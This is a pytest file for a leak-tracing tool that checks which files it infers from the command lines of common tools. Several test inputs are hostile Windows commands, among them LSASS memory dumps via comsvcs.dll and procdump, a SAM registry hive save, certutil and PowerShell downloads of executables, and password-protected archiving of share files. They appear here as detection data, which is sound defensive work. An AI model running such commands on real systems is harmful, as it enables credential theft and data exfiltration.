"""Files inferred from well-known tools' command lines."""

from __future__ import annotations

import pytest

from leaktrace.ingest.endpoint.cmdline_files import absolute, infer

CASES = [
    (r'"C:\Windows\System32\rundll32.exe" C:\windows\System32\comsvcs.dll MiniDump 628 C:\Windows\Temp\l.dmp full',
     [("create", r"C:\Windows\Temp\l.dmp", "comsvcs-minidump")]),
    (r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump (Get-Process lsass).id C:\t\l.dmp full",
     [("create", r"C:\t\l.dmp", "comsvcs-minidump")]),
    (r"rundll32 comsvcs.dll #24 628 C:\t\x.bin full", [("create", r"C:\t\x.bin", "comsvcs-minidump")]),
    (r"procdump64.exe -accepteula -ma lsass.exe C:\temp\l.dmp", [("create", r"C:\temp\l.dmp", "procdump")]),
    (r'"C:\Program Files\7-Zip\7z.exe" a -pS C:\t\d.7z "\\fs\share\a b.docx" C:\docs\*.xlsx',
     [("create", r"C:\t\d.7z", "7z-add"), ("read", r"\\fs\share\a b.docx", "7z-add"),
      ("read", r"C:\docs\*.xlsx", "7z-add")]),
    ("rar a -hp x.rar docs", [("create", "x.rar", "rar-add"), ("read", "docs", "rar-add")]),
    (r"cmd.exe /c copy \\fs\share\x.docx C:\temp\x.docx",
     [("read", r"\\fs\share\x.docx", "copy"), ("create", r"C:\temp\x.docx", "copy")]),
    ("tar -czf /tmp/out.tgz /home/a/docs", [("create", "/tmp/out.tgz", "tar-create"),
                                            ("read", "/home/a/docs", "tar-create")]),
    ("cp -p a.txt /tmp/b.txt", [("read", "a.txt", "cp"), ("create", "/tmp/b.txt", "cp")]),
    (r"powershell Compress-Archive -Path C:\a\1.docx,C:\a\2.docx -DestinationPath C:\t\o.zip",
     [("read", r"C:\a\1.docx", "compress-archive"), ("read", r"C:\a\2.docx", "compress-archive"),
      ("create", r"C:\t\o.zip", "compress-archive")]),
    (r"certutil.exe -urlcache -split -f http://10.0.5.13/x.exe C:\Users\Public\x.exe",
     [("create", r"C:\Users\Public\x.exe", "certutil-download")]),
    (r"reg save HKLM\SAM C:\t\sam.hiv", [("create", r"C:\t\sam.hiv", "reg-save")]),
    ("curl -s -o /tmp/p http://x/y", [("create", "/tmp/p", "curl")]),
    (r"powershell iwr http://a/b -OutFile C:\t\b.exe", [("create", r"C:\t\b.exe", "invoke-webrequest")]),
    (r'"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --profile-directory=Default', []),
    ("", []),
]


@pytest.mark.parametrize(("command_line", "expected"), CASES, ids=[c[0][:40] for c in CASES])
def test_infer(command_line: str, expected: list[tuple[str, str, str]]) -> None:
    assert [(f.action, f.path, f.rule) for f in infer(command_line)] == expected


def test_absolute() -> None:
    assert absolute("x.rar", "C:\\Users\\u\\") == "C:\\Users\\u\\x.rar"
    assert absolute(".\\x.rar", "C:\\Users\\u") == "C:\\Users\\u\\x.rar"
    assert absolute("./a", "/home/u") == "/home/u/a"
    assert absolute("C:\\abs.txt", "C:\\x") == "C:\\abs.txt"
    assert absolute("\\\\srv\\s\\f", "C:\\x") == "\\\\srv\\s\\f"
    assert absolute("rel", None) == "rel"
